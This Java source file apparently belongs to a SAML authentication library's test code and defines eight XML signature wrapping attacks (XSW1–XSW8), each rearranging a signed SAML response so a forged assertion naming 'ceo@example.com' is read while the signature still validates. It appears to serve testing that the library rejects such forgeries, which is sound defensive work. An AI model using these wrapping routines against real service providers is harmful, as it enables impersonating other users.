package io.culvert.auth.saml;

import java.util.Objects;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * XML signature wrapping: a forged element where the reader looks, and the signed one where the
 * signature still finds it. Numbered as in Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (USENIX Security 2012), and in the tools made after it.
 */
enum Wrapping {
  /** The forged response holds the signature, and that the response which was signed. */
  XSW1 {
    @Override
    void wrap(Document document) {
      Element original = document.getDocumentElement();
      Element forged = forged(original, "_forged");
      Node signature = signatureOrAny(forged);
      document.replaceChild(forged, original);
      signature.appendChild(withoutSignature(original));
    }
  },
  /** The forged response holds the signed one beside its detached signature. */
  XSW2 {
    @Override
    void wrap(Document document) {
      Element original = document.getDocumentElement();
      Element forged = forged(original, "_forged");
      Node signature = signatureOrAny(forged);
      document.replaceChild(forged, original);
      forged.insertBefore(withoutSignature(original), signature);
    }
  },
  /** The forged assertion stands before the signed one. */
  XSW3 {
    @Override
    void wrap(Document document) {
      Element original = Idp.assertion(document);
      Element forged = withoutSignature(forged(original, "_forged"));
      parent(original).insertBefore(forged, original);
    }
  },
  /** The forged assertion holds the signed one. */
  XSW4 {
    @Override
    void wrap(Document document) {
      Element original = Idp.assertion(document);
      Element forged = withoutSignature(forged(original, "_forged"));
      parent(original).replaceChild(forged, original);
      forged.appendChild(original);
    }
  },
  /** The signed assertion is changed; what was signed stands behind it, without a signature. */
  XSW5 {
    @Override
    void wrap(Document document) {
      Element original = Idp.assertion(document);
      Element copy = withoutSignature((Element) original.cloneNode(true));
      forge(original, "_forged");
      parent(original).appendChild(copy);
    }
  },
  /** The signed assertion is changed; what was signed stands inside the signature. */
  XSW6 {
    @Override
    void wrap(Document document) {
      Element original = Idp.assertion(document);
      Element copy = withoutSignature((Element) original.cloneNode(true));
      forge(original, "_forged");
      signatureOrAny(original).appendChild(copy);
    }
  },
  /** The forged assertion stands in extensions. */
  XSW7 {
    @Override
    void wrap(Document document) {
      Element original = Idp.assertion(document);
      Element extensions = document.createElementNS(SamlNames.PROTOCOL, "samlp:Extensions");
      extensions.appendChild(withoutSignature(forged(original, original.getAttribute("ID"))));
      parent(original).insertBefore(extensions, original);
    }
  },
  /** The signed assertion is changed; what was signed stands in an object of the signature. */
  XSW8 {
    @Override
    void wrap(Document document) {
      Element original = Idp.assertion(document);
      Element copy = withoutSignature((Element) original.cloneNode(true));
      forge(original, "_forged");
      Element object = document.createElementNS(SamlNames.SIGNATURE, "ds:Object");
      object.appendChild(copy);
      signatureOrAny(original).appendChild(object);
    }
  };

  static final String VICTIM = "ceo@example.com";

  abstract void wrap(Document document);

  private static Element forged(Element original, String id) {
    Element copy = (Element) original.cloneNode(true);
    forge(copy, id);
    return copy;
  }

  private static void forge(Element element, String id) {
    element.setAttribute("ID", id);
    element.getElementsByTagNameNS(SamlNames.ASSERTION, "NameID").item(0).setTextContent(VICTIM);
  }

  private static Element withoutSignature(Element element) {
    SamlXml.children(element, SamlNames.SIGNATURE, "Signature").forEach(element::removeChild);
    return element;
  }

  /** Its signature; where it has none of its own, one further down or the last child. */
  private static Node signatureOrAny(Element element) {
    for (Element own : SamlXml.children(element, SamlNames.SIGNATURE, "Signature")) {
      return own;
    }
    return SamlXml.children(element).getLast();
  }

  private static Node parent(Element element) {
    return Objects.requireNonNull(element.getParentNode());
  }
}
